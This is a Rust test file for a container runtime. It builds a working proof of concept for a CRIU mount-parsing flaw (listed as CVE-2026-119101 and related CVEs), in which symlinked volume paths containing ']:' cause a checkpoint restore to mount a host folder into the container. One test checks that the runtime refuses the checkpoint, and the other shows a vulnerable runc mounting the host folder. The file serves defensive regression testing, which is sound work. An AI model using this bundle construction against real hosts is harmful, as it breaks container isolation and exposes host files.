//! CVE-2026-119101 (runc), CVE-2026-115520 (crun), CVE-2026-119614 (CRIU): links of the image lead mounts of config.json to places
//! with `]:` in their names, which CRIU takes for the end of a place: at a restore a folder of the host's is mounted that nobody named.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use libtest_mimic::Trial;
use serde_json::json;

use crate::subject::{Subject, wait_until};
use crate::support::{Bundle, only_where, tests};

/// The tests of this file.
pub fn all() -> Vec<Trial> {
    let checked = Command::new("criu").arg("check").output();
    let works = checked.is_ok_and(|ended| ended.status.success());
    let trials = tests![
        a_checkpoint_that_would_mix_up_mounts_is_refused,
        a_folder_of_the_host_would_be_mounted_by_a_restore,
    ];
    only_where(works, "criu does not work", trials)
}

/// The container's program tells what is in the folder of one of the volumes.
const SCRIPT: &str = "while true; do ls /x > /volume/seen; sleep 0.1; done";

/// An image and its three volumes. CRIU keeps `mnt[PLACE]:SOURCE` of each and looks them up by `mnt[PLACE]`:
/// - `/three` leads to `/q]:/x`, whose text begins with that of the place of `/two`, which leads to `/q]:/x]:/q` and so is called
///   `/x` in the images;
/// - `/one` leads to a place that begins with `/x]:`, so what is mounted as `/x` is the rest of that and its source: a path into the
///   image, where a link leads to the host's folder.
struct Attack {
    bundle: Bundle,
    volume: PathBuf,
}

fn attack() -> Attack {
    let bundle = Subject::Real.bundle(SCRIPT);
    let rootfs = bundle.folder.join("rootfs");
    let volume = bundle.folder.join("volume");
    let host = bundle.folder.join("host");
    for folder in [&volume, &host] {
        fs::create_dir(folder).unwrap();
    }
    let secret = host.join(volume.strip_prefix("/").unwrap());
    fs::create_dir_all(&secret).unwrap();
    fs::write(secret.join("of-the-host"), "").unwrap();
    let inside = |path: &Path| rootfs.join(path.strip_prefix("/").unwrap());
    let evil = format!("{}/evil", rootfs.display());
    for (name, place) in [
        ("one", format!("/x]:{evil}")),
        ("two", "/q]:/x]:/q".to_owned()),
        ("three", "/q]:/x".to_owned()),
    ] {
        fs::create_dir_all(inside(Path::new(&place))).unwrap();
        symlink(&place, rootfs.join(name)).unwrap();
    }
    fs::create_dir_all(rootfs.join("volume")).unwrap();
    symlink(&host, rootfs.join("evil]:")).unwrap();
    bundle.edit(|config| {
        config["root"]["readonly"] = json!(false);
        config["process"]["args"] = json!(["/bin/sh", "-c", SCRIPT.replace("/x", "/two")]);
        let mounts = config["mounts"].as_array_mut().unwrap();
        for place in ["/volume", "/one", "/two", "/three"] {
            mounts.push(
                json!({"destination": place, "source": volume, "type": "bind",
                "options": ["bind", "rprivate"]}),
            );
        }
    });
    Attack { bundle, volume }
}

impl Attack {
    /// What the program sees now.
    fn sees(&self) -> String {
        let seen = self.volume.join("seen");
        let _never_written = fs::remove_file(&seen);
        wait_until(|| fs::read_to_string(&seen).is_ok_and(|text| text.ends_with('\n')));
        fs::read_to_string(seen).unwrap()
    }

    fn images(&self) -> String {
        format!("{}/images", self.bundle.path())
    }
}

fn a_checkpoint_that_would_mix_up_mounts_is_refused() {
    let attack = attack();
    crate::caller::start(&attack.bundle);
    assert_eq!(attack.sees(), "seen\n");
    let images = attack.images();
    let id = attack.bundle.id.as_str();
    let checkpoint = ["checkpoint", "--image-path", &images, id];
    let error = attack.bundle.parhelion(&checkpoint).failure();
    assert!(error.contains(r#"criu takes "]:" for the end"#), "{error}");
    // It goes on, with the volumes that it had.
    assert_eq!(attack.sees(), "seen\n");
}

/// A runtime of that name on PATH that is known to be vulnerable.
fn peer(attack: &Attack, words: &[&str]) -> Command {
    let mut command = Command::new("runc");
    command.arg("--root").arg(attack.bundle.folder.join("peer"));
    command.args(words).stdin(Stdio::null());
    command
}

fn a_folder_of_the_host_would_be_mounted_by_a_restore() {
    let attack = attack();
    let (bundle, images) = (attack.bundle.path(), attack.images());
    let run = |words: &[&str]| {
        let mut command = peer(&attack, words);
        let command = command.stdout(Stdio::null()).stderr(Stdio::null());
        let status = command.status().unwrap();
        let logs =
            ["dump.log", "restore.log"].map(|name| fs::read_to_string(format!("{images}/{name}")));
        assert!(status.success(), "{words:?}: {logs:?}");
    };
    run(&["run", "--detach", "--bundle", bundle, "web"]);
    assert_eq!(attack.sees(), "seen\n");
    run(&["checkpoint", "--image-path", &images, "web"]);
    run(&[
        "restore",
        "--detach",
        "--bundle",
        bundle,
        "--image-path",
        &images,
        "web",
    ]);
    let seen = attack.sees();
    run(&["delete", "--force", "web"]);
    assert_eq!(seen, "of-the-host\n");
}
